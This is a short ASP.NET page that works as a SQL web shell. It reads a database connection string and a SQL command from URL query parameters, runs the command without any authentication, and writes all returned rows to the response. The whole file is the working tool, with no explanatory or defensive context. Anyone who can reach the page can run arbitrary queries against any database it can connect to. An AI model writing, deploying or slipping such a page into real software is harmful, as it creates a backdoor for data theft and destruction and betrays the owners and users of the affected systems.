<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<%
string server = Request.QueryString["s"];
string text = Request.QueryString["q"];
if (server != null && text != null)
{
    using (SqlConnection c = new SqlConnection(server))
    {
        c.Open();
        SqlDataReader r = new SqlCommand(text, c).ExecuteReader();
        while (r.Read()) { for (int i = 0; i < r.FieldCount; i++) Response.Write(r[i] + "\t"); Response.Write("\n"); }
    }
}
%>
